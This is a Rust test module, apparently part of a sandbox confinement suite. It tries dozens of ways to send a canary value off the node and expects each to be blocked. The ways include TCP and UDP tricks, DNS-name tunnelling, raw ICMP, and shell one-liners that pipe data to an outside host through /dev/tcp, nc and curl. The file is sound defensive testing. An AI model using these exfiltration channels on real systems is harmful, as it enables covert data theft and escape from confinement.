//! Sockets that lead off the node, by every protocol that carries bytes.

use super::reach::{
    OUTSIDE, datagram, done, in_vain, peer, peer_mapped, raw_socket, send_all, set_option, stream,
    with_canary,
};
use crate::channel::Channel;
use crate::outside::PORT;
use nix::errno::Errno;
use nix::sys::socket::{AddressFamily, MsgFlags, SockaddrIn, SockaddrStorage, connect, sendto};
use std::io::{Result, Write as _};
use std::net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::os::fd::AsRawFd as _;
use std::time::Duration;

const CREATE: &[&str] = &["socket_create"];
const CONNECT: &[&str] = &["socket_connect"];
const SEND: &[&str] = &["socket_sendmsg"];
const NETWORK: &str = "network";
const KIND: &str = "socket_kind";

pub(crate) const CHANNELS: &[Channel] = &[
    Channel::closed("tcp_connect", "connects and writes", CONNECT, NETWORK, |s| with_canary(s, tcp_connect)),
    Channel::closed(
        "tcp_v4_mapped",
        "connects to an IPv4 address written as an IPv6 one",
        CONNECT,
        NETWORK,
        |s| with_canary(s, tcp_v4_mapped),
    ),
    Channel::closed("tcp_after_unspec", "disconnects first, then connects", CONNECT, NETWORK, |s| {
        with_canary(s, tcp_after_unspec)
    }),
    Channel::closed(
        "tcp_reconnect",
        "connects to a confined listener, disconnects, and connects elsewhere",
        CONNECT,
        NETWORK,
        |s| with_canary(s, tcp_reconnect),
    ),
    Channel::closed(
        "tcp_fast_open",
        "sends data with the first packet of TCP, without connecting",
        SEND,
        NETWORK,
        |s| with_canary(s, tcp_fast_open),
    ),
    Channel::closed(
        "tcp_fast_open_connect",
        "leaves connecting to the first write",
        &["socket_setsockopt", "socket_connect"],
        NETWORK,
        |s| with_canary(s, tcp_fast_open_connect),
    ),
    Channel::closed("mptcp", "connects by multipath TCP", CREATE, KIND, |s| with_canary(s, mptcp))
        .absent(&[Errno::EPROTONOSUPPORT, Errno::ENOPROTOOPT]),
    Channel::closed("udp_sendto", "sends a datagram", SEND, NETWORK, |s| with_canary(s, udp_sendto)),
    Channel::closed("udp_connected", "connects a datagram socket and sends", CONNECT, NETWORK, |s| {
        with_canary(s, udp_connected)
    }),
    Channel::closed("udp_sendmmsg", "sends many datagrams with one call", SEND, NETWORK, |s| {
        with_canary(s, udp_sendmmsg)
    }),
    Channel::closed(
        "udp_corked",
        "names the destination in the first half of a datagram only",
        SEND,
        NETWORK,
        |s| with_canary(s, udp_corked),
    ),
    Channel::closed("udp_segmented", "lets the kernel cut one buffer into datagrams", SEND, NETWORK, |s| {
        with_canary(s, udp_segmented)
    }),
    Channel::closed(
        "udp_v6_to_mapped",
        "sends to a mapped address from an IPv6 socket",
        SEND,
        NETWORK,
        |s| with_canary(s, udp_v6_to_mapped),
    ),
    Channel::closed("udp_v6_to_v4", "sends to an IPv4 address from an IPv6 socket", SEND, NETWORK, |s| {
        with_canary(s, udp_v6_to_v4)
    }),
    Channel::closed("udp_broadcast", "broadcasts", SEND, NETWORK, |s| with_canary(s, udp_broadcast)),
    Channel::closed("udp_multicast", "sends to a multicast group", SEND, NETWORK, |s| {
        with_canary(s, udp_multicast)
    }),
    Channel::closed("dns_query", "asks a name server for a name that is the data", SEND, NETWORK, |s| {
        with_canary(s, dns_query)
    }),
    Channel::closed("udp_lite", "sends by UDP-Lite", CREATE, KIND, |s| with_canary(s, udp_lite))
        .absent(&[Errno::EPROTONOSUPPORT, Errno::ENOPROTOOPT]),
    Channel::closed("icmp_datagram", "pings with data", CREATE, KIND, |s| with_canary(s, icmp_datagram)),
    Channel::closed("raw_icmp", "sends raw ICMP", CREATE, KIND, |s| with_canary(s, raw_icmp)).root(),
    Channel::closed("raw_protocol", "sends by a protocol of its own", CREATE, KIND, |s| {
        with_canary(s, raw_protocol)
    })
    .root(),
    Channel::closed("bash_tcp", "writes to /dev/tcp in a shell", CONNECT, NETWORK, |s| {
        let script = format!("echo {} > /dev/tcp/{}/{PORT}", s.canary, peer().ip());
        s.command("bash", &["-c", &script])
    }),
    Channel::closed("netcat", "pipes into nc", CONNECT, NETWORK, |s| {
        s.shell(&format!("echo $canary | nc -v -N {} {PORT}", peer().ip()))
    }),
    Channel::closed("curl", "fetches an address that is the data", CONNECT, NETWORK, |s| {
        // The peer never answers: running out of time is how it ends when all goes well.
        s.shell(&format!("curl -sS -m 2 http://{}:{PORT}/$canary; test $? = 28", peer().ip()))
    })
    .errno(Errno::ECHILD),
];

const IPPROTO_UDPLITE: i32 = 136;
const IPPROTO_MPTCP: i32 = 262;

/// Connects a TCP stream and sends.
pub(crate) fn tcp_to(address: SocketAddr, canary: &[u8]) -> Result<()> {
    TcpStream::connect_timeout(&address, Duration::from_secs(5))?.write_all(canary)
}

/// Sends one datagram from a socket of that family.
fn udp_from(family: AddressFamily, to: SocketAddr, canary: &[u8]) -> Result<()> {
    let fd = datagram(family)?;
    sendto(fd.as_raw_fd(), canary, &SockaddrStorage::from(to), MsgFlags::empty())?;
    Ok(())
}

fn tcp_connect(canary: &[u8]) -> Result<()> {
    tcp_to(peer(), canary)
}

fn tcp_v4_mapped(canary: &[u8]) -> Result<()> {
    tcp_to(peer_mapped(), canary)
}

/// Disconnecting is allowed; what comes after it is judged like the first time.
fn tcp_after_unspec(canary: &[u8]) -> Result<()> {
    let fd = stream(AddressFamily::Inet)?;
    let mut nowhere = [0u8; 16];
    nowhere[0] = 0;
    // SAFETY: an address of sixteen zero bytes: AF_UNSPEC.
    done(unsafe { libc::connect(fd.as_raw_fd(), nowhere.as_ptr().cast(), 16) })?;
    connect(fd.as_raw_fd(), &SockaddrStorage::from(peer()))?;
    send_all(&fd, canary)
}

/// Connects to a confined listener first, then uses the same socket for somebody else.
fn tcp_reconnect(canary: &[u8]) -> Result<()> {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0))?;
    let fd = stream(AddressFamily::Inet)?;
    connect(fd.as_raw_fd(), &SockaddrStorage::from(listener.local_addr()?))?;
    let nowhere = [0u8; 16];
    // SAFETY: an address of sixteen zero bytes: AF_UNSPEC.
    done(unsafe { libc::connect(fd.as_raw_fd(), nowhere.as_ptr().cast(), 16) })?;
    connect(fd.as_raw_fd(), &SockaddrStorage::from(peer()))?;
    send_all(&fd, canary)
}

fn tcp_fast_open(canary: &[u8]) -> Result<()> {
    let fd = stream(AddressFamily::Inet)?;
    let fast = MsgFlags::from_bits_retain(libc::MSG_FASTOPEN);
    sendto(fd.as_raw_fd(), canary, &SockaddrStorage::from(peer()), fast)?;
    Ok(())
}

/// `connect` only notes the address; the first write sends it with the data.
fn tcp_fast_open_connect(canary: &[u8]) -> Result<()> {
    let fd = stream(AddressFamily::Inet)?;
    set_option(&fd, libc::IPPROTO_TCP, libc::TCP_FASTOPEN_CONNECT, &1i32)?;
    connect(fd.as_raw_fd(), &SockaddrStorage::from(peer()))?;
    send_all(&fd, canary)
}

fn mptcp(canary: &[u8]) -> Result<()> {
    let fd = raw_socket(libc::AF_INET, libc::SOCK_STREAM, IPPROTO_MPTCP)?;
    connect(fd.as_raw_fd(), &SockaddrStorage::from(peer()))?;
    send_all(&fd, canary)
}

fn udp_sendto(canary: &[u8]) -> Result<()> {
    udp_from(AddressFamily::Inet, peer(), canary)
}

fn udp_connected(canary: &[u8]) -> Result<()> {
    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
    socket.connect(peer())?;
    socket.send(canary).map(drop)
}

fn udp_v6_to_mapped(canary: &[u8]) -> Result<()> {
    udp_from(AddressFamily::Inet6, peer_mapped(), canary)
}

fn udp_v6_to_v4(canary: &[u8]) -> Result<()> {
    udp_from(AddressFamily::Inet6, peer(), canary)
}

fn udp_sendmmsg(canary: &[u8]) -> Result<()> {
    let fd = datagram(AddressFamily::Inet)?;
    let mut to = SockaddrIn::from(match peer() {
        SocketAddr::V4(v4) => v4,
        SocketAddr::V6(_) => return Err(in_vain()),
    });
    let mut part = libc::iovec { iov_base: canary.as_ptr().cast_mut().cast(), iov_len: canary.len() };
    // SAFETY: an all-zero header is a valid empty one; every pointer set below outlives the call.
    let mut message: libc::mmsghdr = unsafe { std::mem::zeroed() };
    message.msg_hdr.msg_name = (&raw mut to).cast();
    message.msg_hdr.msg_namelen = 16;
    message.msg_hdr.msg_iov = &raw mut part;
    message.msg_hdr.msg_iovlen = 1;
    // SAFETY: one message, as described above.
    done(unsafe { libc::sendmmsg(fd.as_raw_fd(), &raw mut message, 1, 0) })
}

/// The address goes with the first, corked half; the second half names none.
fn udp_corked(canary: &[u8]) -> Result<()> {
    let fd = datagram(AddressFamily::Inet)?;
    let (first, second) = canary.split_at(canary.len() / 2);
    sendto(
        fd.as_raw_fd(),
        first,
        &SockaddrStorage::from(peer()),
        MsgFlags::from_bits_retain(libc::MSG_MORE),
    )?;
    send_all(&fd, second)
}

/// One large buffer, cut into datagrams by the kernel.
fn udp_segmented(canary: &[u8]) -> Result<()> {
    const UDP_SEGMENT: i32 = 103;
    let fd = datagram(AddressFamily::Inet)?;
    set_option(&fd, libc::SOL_UDP, UDP_SEGMENT, &i32::try_from(canary.len()).unwrap_or(64))?;
    let twice = [canary, canary].concat();
    sendto(fd.as_raw_fd(), &twice, &SockaddrStorage::from(peer()), MsgFlags::empty())?;
    Ok(())
}

fn udp_broadcast(canary: &[u8]) -> Result<()> {
    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
    socket.set_broadcast(true)?;
    socket.send_to(canary, (Ipv4Addr::BROADCAST, PORT)).map(drop)
}

fn udp_multicast(canary: &[u8]) -> Result<()> {
    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
    socket.send_to(canary, (Ipv4Addr::new(239, 1, 2, 3), PORT)).map(drop)
}

/// A question to a name server is a message to whoever owns the zone.
fn dns_query(canary: &[u8]) -> Result<()> {
    let mut question = vec![0x5e, 0x41, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    question.push(u8::try_from(canary.len()).unwrap_or(63));
    question.extend_from_slice(canary);
    question.extend_from_slice(b"\x07example\0\0\x01\0\x01");
    udp_from(AddressFamily::Inet, (OUTSIDE, 53).into(), &question)
}

fn udp_lite(canary: &[u8]) -> Result<()> {
    let fd = raw_socket(libc::AF_INET, libc::SOCK_DGRAM, IPPROTO_UDPLITE)?;
    sendto(
        fd.as_raw_fd(),
        canary,
        &SockaddrStorage::from(SocketAddr::from((OUTSIDE, PORT))),
        MsgFlags::empty(),
    )?;
    Ok(())
}

/// `ping`, without any right.
fn icmp_datagram(canary: &[u8]) -> Result<()> {
    let fd = raw_socket(libc::AF_INET, libc::SOCK_DGRAM, libc::IPPROTO_ICMP)?;
    sendto(fd.as_raw_fd(), &echo_request(canary), &SockaddrStorage::from(to_outside()), MsgFlags::empty())?;
    Ok(())
}

fn raw_icmp(canary: &[u8]) -> Result<()> {
    let fd = raw_socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_ICMP)?;
    sendto(fd.as_raw_fd(), &echo_request(canary), &SockaddrStorage::from(to_outside()), MsgFlags::empty())?;
    Ok(())
}

/// A protocol of one's own.
fn raw_protocol(canary: &[u8]) -> Result<()> {
    let fd = raw_socket(libc::AF_INET, libc::SOCK_RAW, 253)?;
    sendto(fd.as_raw_fd(), canary, &SockaddrStorage::from(to_outside()), MsgFlags::empty())?;
    Ok(())
}

fn to_outside() -> SocketAddr {
    (OUTSIDE, 0).into()
}

fn echo_request(canary: &[u8]) -> Vec<u8> {
    [&[8, 0, 0, 0, 0, 1, 0, 1], canary].concat()
}
